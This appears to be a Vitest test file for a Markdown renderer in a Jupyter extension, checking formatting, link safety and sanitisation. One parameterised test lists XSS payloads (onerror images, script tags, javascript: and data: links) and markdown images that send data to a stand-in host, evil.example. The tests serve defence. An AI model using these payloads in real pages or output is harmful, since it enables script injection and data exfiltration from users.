// @vitest-environment happy-dom
import { render } from 'preact';
import { expect, test } from 'vitest';
import { Markdown } from '../../jupyter_ext/ui/markdown';

function shown(text: string): HTMLElement {
  const host = document.createElement('div');
  render(<Markdown text={text} />, host);
  return host;
}

test('marks that agents write become elements', () => {
  const host = shown('Take **F2**, *not* `roc_auc`:\n\n- one\n- two\n\n1. first');
  expect(host.querySelector('strong')!.textContent).toBe('F2');
  expect(host.querySelector('em')!.textContent).toBe('not');
  expect(host.querySelector('code')!.textContent).toBe('roc_auc');
  expect(host.querySelectorAll('ul li')).toHaveLength(2);
  expect(host.querySelectorAll('ol li')).toHaveLength(1);
});

test.each([
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '![pixel](https://evil.example/?leak=42)',
  '[![pixel](https://evil.example/a.png)](https://evil.example)',
  '[click](javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '```\n<img src=x>\n```',
  '<a href="javascript:alert(1)">x</a>'
])('no HTML, image or script comes out of %s', text => {
  const host = shown(text);
  expect(host.querySelectorAll('img, script, iframe, svg, [onerror]')).toHaveLength(0);
  host.querySelectorAll('a').forEach(a => expect(a.getAttribute('href')).toMatch(/^https?:/));
});

test('an http link opens apart and gives nothing away', () => {
  const link = shown('see [the docs](https://example.org/x)').querySelector('a')!;
  expect(link.getAttribute('rel')).toContain('noopener');
  expect(link.getAttribute('target')).toBe('_blank');
});

test.each(['snake_case_name and 2*3*4', 'a ** b', '[x] is no link', '`unclosed', '_', ''])(
  'ordinary text stays as written: %s',
  text => expect(shown(text).textContent).toBe(text)
);
